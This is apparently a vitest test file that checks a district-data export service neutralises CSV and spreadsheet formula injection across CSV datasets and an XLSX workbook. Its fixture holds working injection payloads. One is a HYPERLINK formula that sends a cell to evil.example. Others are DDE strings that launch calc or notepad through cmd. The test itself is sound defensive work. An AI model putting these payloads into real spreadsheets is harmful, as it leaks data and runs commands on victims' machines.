// Text an editor typed that a spreadsheet program would run as a formula (OWASP "CSV injection")
// stays text in every spreadsheet we write: every CSV dataset, in both languages with either
// delimiter, and the workbook. The editor's text goes in through the district's package, into
// every editable text column that reaches a dataset.
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { expect, test } from 'vitest';
import { exportPackages } from '../../src/packages/export.js';
import { editingServer } from '../support/editing.js';

const editing = editingServer();

const hostile = {
  title: '=HYPERLINK("http://evil.example/?x="&A1,"Klick")',
  label: "+1+cmd|' /C calc'!A0",
  wording: "-2+3+cmd|' /C notepad'!A0",
  printed: "@SUM(1+1)*cmd|' /C calc'!A0",
  source: '\t=1+1',
  otherSource: '\r=1+1',
};

const importing = `mutation ($input: ImportDataPackageInput!) { importDataPackage(input: $input) {
  __typename ... on ValidationError { issues { path message } } } }`;

/** The Kyffhäuserkreis with the hostile texts in its concept, its fields of action, its posts' tasks, its indicator values and its sources. */
async function hostileKyffhaeuser() {
  const files = await exportPackages(editing.server.database.client);
  const dataPackage = structuredClone(files.find((file) => file.dataPackage.district === '16065')!.dataPackage);
  const { tables } = dataPackage;
  for (const concept of tables.concepts!) concept.title = hostile.title;
  for (const field of tables.conceptFieldsOfAction!) field.label = hostile.label;
  for (const task of tables.positionTasks!) task.wording = hostile.wording;
  for (const value of tables.indicatorValues!) value.printed = hostile.printed;
  tables.sources!.forEach((source, index) => {
    source.title = index % 2 ? hostile.otherSource : hostile.source;
  });
  return dataPackage;
}

const datasets = ['districts', 'fields-of-action', 'tasks', 'programmes', 'roles', 'indicators'];
const startsLikeAFormula = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;
const hostileTexts = Object.values(hostile);

test('no cell of any CSV begins like a formula; the editors’ formulas arrive as text with a leading apostrophe', async () => {
  const imported = await editing.as(editing.tokens.kyffhaeuser, importing, { input: { package: await hostileKyffhaeuser() } });
  expect(imported.data.importDataPackage.__typename).toBe('MutationImportDataPackageSuccess');
  const origin = new URL(editing.server.url).origin;
  const neutralised = new Set<string>();
  for (const dataset of datasets)
    for (const [lang, delimiter] of [
      ['de', ';'],
      ['de', ','],
      ['en', ','],
      ['en', ';'],
    ] as const) {
      const named = delimiter === ';' ? 'semicolon' : 'comma';
      const response = await fetch(`${origin}/export/${dataset}.csv?state=TH&lang=${lang}&delimiter=${named}`);
      expect(response.status, dataset).toBe(200);
      const cells: string[] = parse(Buffer.from(await response.arrayBuffer()).subarray(3), { delimiter, relax_column_count: true }).flat();
      // A number we write as a number stays one ("-2" is not text).
      const formulas = cells.filter((cell) => startsLikeAFormula.test(cell) && Number.isNaN(Number(cell.replace(',', '.'))));
      expect(formulas, `${dataset}.csv (${lang}, ${named})`).toEqual([]);
      for (const cell of cells) if (cell.startsWith("'") && hostileTexts.includes(cell.slice(1))) neutralised.add(cell.slice(1));
    }
  // Every hostile text reached a dataset (the test would prove nothing otherwise) and arrived neutralised.
  expect([...neutralised].sort()).toEqual([...hostileTexts].sort());
});

test('the workbook keeps the same text as text, never as a formula', async () => {
  await editing.as(editing.tokens.kyffhaeuser, importing, { input: { package: await hostileKyffhaeuser() } });
  const response = await fetch(`${new URL(editing.server.url).origin}/export/fields-of-action.xlsx?state=TH`);
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(Buffer.from(await response.arrayBuffer()) as unknown as ExcelJS.Buffer);
  const cells: ExcelJS.Cell[] = [];
  workbook.worksheets[0]!.eachRow((row) => row.eachCell((cell) => cells.push(cell)));
  const written = cells.filter((cell) => hostileTexts.includes(String(cell.value)));
  expect(new Set(written.map((cell) => String(cell.value)))).toEqual(new Set([hostile.label, hostile.title]));
  for (const cell of written) expect(cell.type).toBe(ExcelJS.ValueType.String);
  expect(cells.filter((cell) => cell.type === ExcelJS.ValueType.Formula)).toEqual([]);
});
